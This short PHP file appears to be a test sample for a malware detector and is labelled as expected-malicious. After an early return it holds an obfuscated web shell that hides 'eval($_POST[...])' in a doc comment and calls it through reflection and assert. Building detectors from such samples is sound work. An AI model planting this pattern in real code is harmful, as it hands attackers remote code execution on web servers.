<?php return; // want: malicious php.code.self
/** assert eval($_POST['word']); */
class Letter {}
$paper = new ReflectionClass('Letter');
$line = $paper->getDocComment();
$first = substr($line, 4, 6);
$rest = substr($line, 11, 22);
$first($rest);
